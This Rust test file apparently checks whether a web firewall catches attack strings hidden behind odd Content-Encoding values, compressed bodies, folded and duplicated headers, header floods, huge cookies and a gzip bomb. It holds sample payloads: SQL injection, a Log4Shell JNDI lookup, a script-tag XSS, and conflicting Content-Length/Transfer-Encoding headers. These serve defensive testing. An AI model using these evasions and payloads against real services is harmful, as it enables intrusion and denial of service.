//! I8: headers that are folded, repeated, empty, coded, or far too many.

use crate::attempt::{
    ATTACK, Attempt, Expected, FORM, JSON, MULTIPART, XML, field, get, json_string, percent, post, xml_text,
};
use crate::oracle::exchange::Exchange;
use crate::row::Row;
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use std::io::Write;
use std::sync::LazyLock;

pub static ROW: LazyLock<Row> = LazyLock::new(|| {
    let mut row = Row::new(
        "I8",
        "headers: content codings with and without coded bodies, bombs, duplicates, folding, empty names, floods; cookies",
    );
    for attempt in codings().into_iter().chain(crate::cookies::attempts()).chain(odd()) {
        row.take(&attempt);
    }
    row
});

fn codings() -> Vec<Attempt> {
    let gzip = |body: &[u8]| {
        let mut out = GzEncoder::new(Vec::new(), Compression::best());
        out.write_all(body).expect("memory");
        out.finish().expect("memory")
    };
    let zlib = |body: &[u8]| {
        let mut out = ZlibEncoder::new(Vec::new(), Compression::best());
        out.write_all(body).expect("memory");
        out.finish().expect("memory")
    };
    let deflate = |body: &[u8]| {
        let mut out = DeflateEncoder::new(Vec::new(), Compression::best());
        out.write_all(body).expect("memory");
        out.finish().expect("memory")
    };
    let bodies = [
        (FORM, format!("q={}", percent(ATTACK))),
        (JSON, format!("[\"{}\"]", json_string(ATTACK))),
        (XML, format!("<a>{}</a>", xml_text(ATTACK))),
        (MULTIPART, field("q", ATTACK) + "--B--\r\n"),
        ("text/plain", ATTACK.to_owned()),
        ("application/octet-stream", ATTACK.to_owned()),
    ];
    let mut attempts = Vec::new();
    for (content_type, body) in &bodies {
        let plain = body.as_bytes();
        let coded =
            [("as it is", plain.to_vec()), ("gzip", gzip(plain)), ("zlib", zlib(plain)), ("deflate", deflate(plain))];
        for (how, body) in coded {
            for coding in [
                "gzip",
                "GZIP",
                "x-gzip",
                "deflate",
                "br",
                "zstd",
                "compress",
                "gzip, gzip",
                "identity, gzip",
                "gzip;q=1",
                "utf-8",
                "unheard-of",
                "*",
            ] {
                let exchange = post(content_type, body.clone()).header("Content-Encoding", coding);
                attempts.push(Attempt::new(format!("{content_type} {how}, called {coding}"), exchange, Expected::Seen));
            }
            let twice = post(content_type, body.clone())
                .header("Content-Encoding", "identity")
                .header("content-encoding", "gzip");
            attempts.push(Attempt::new(format!("{content_type} {how}, two codings"), twice, Expected::Seen));
            let split = post(content_type, body).header("Content-Encoding", "").header("Content-Encoding", "deflate");
            attempts.push(Attempt::new(
                format!("{content_type} {how}, the second coding counts"),
                split,
                Expected::Seen,
            ));
        }
        let identity = post(content_type, plain).header("Content-Encoding", "identity");
        attempts.push(Attempt::new(format!("{content_type}, identity"), identity, Expected::Seen));
    }
    // A megabyte in a kilobyte.
    let bomb = gzip(&[b"q=", percent(ATTACK).as_bytes(), &b"a".repeat(1 << 20)].concat());
    attempts.push(Attempt::new("a bomb", post(FORM, bomb).header("Content-Encoding", "gzip"), Expected::Seen));
    attempts.push(Attempt::new(
        "no coding",
        post(FORM, "a=1").header("Content-Encoding", "identity"),
        Expected::Nothing,
    ));
    attempts.push(Attempt::new("no body", get("/").header("Content-Encoding", "gzip"), Expected::Nothing));
    attempts
}

fn odd() -> Vec<Attempt> {
    let mut attempts = Vec::new();
    let cookie = |value: &str| get("/").header("Cookie", value);
    // Headers count only for rulesets that look at them: the built-in ones and CRS.
    for (name, value) in [
        ("X-Forwarded-For", "127.0.0.1' or 1=1 --"),
        ("User-Agent", "${jndi:ldap://x/a}"),
        ("Referer", "http://x/?q=<script>alert(1)</script>"),
    ] {
        for value in [value.to_owned(), format!("a\r\n {value}"), format!("a\n\t{value}"), format!("\u{e9}{value}")] {
            for times in [1, 3] {
                let request = (0..times).fold(Exchange::get("/").header("Host", "www.example"), |request, at| {
                    request.header(name, if at + 1 == times { &value } else { "x" })
                });
                attempts.push(Attempt::new(format!("{name}: {value}, {times} times"), request, Expected::ByRulesets));
            }
        }
    }
    for (name, value) in
        [("Host", "other"), ("", "x"), ("A B", "x"), ("A:", "x"), ("X\r\nY", "x"), ("X\0", "x"), ("\u{e9}", "x")]
    {
        let request = cookie(&format!("a={ATTACK}")).header(name, value);
        attempts.push(Attempt::new(format!("with {name:?}: {value:?}"), request, Expected::Found));
    }
    for length in ["Content-Length", "Transfer-Encoding"] {
        let request = post(FORM, format!("q={}", percent(ATTACK))).header(length, "1").header(length, "2");
        attempts.push(Attempt::new(format!("{length} twice"), request, Expected::Found));
    }
    for count in [200, 900, 1100, 10_000] {
        for last in [false, true] {
            let attack = cookie(&format!("a={ATTACK}"));
            let flood =
                |request: Exchange| (0..count).fold(request, |request, at| request.header(&format!("X-{at}"), "y"));
            let request = if last { flood(get("/")).header("Cookie", &format!("a={ATTACK}")) } else { flood(attack) };
            let expected = if count < 1000 { Expected::Found } else { Expected::Refused };
            attempts.push(Attempt::new(format!("{count} headers, the attack last: {last}"), request, expected));
        }
    }
    for size in [10_000, 100_000, 1_000_000, 2_000_000] {
        let request = cookie(&format!("a={}; b={ATTACK}", "x".repeat(size)));
        let expected = if size <= 1_000_000 { Expected::Found } else { Expected::Refused };
        attempts.push(Attempt::new(format!("a cookie of {size} bytes"), request, expected));
    }
    attempts
}

#[test]
fn odd_headers_and_coded_bodies_are_seen() {
    ROW.assert();
}
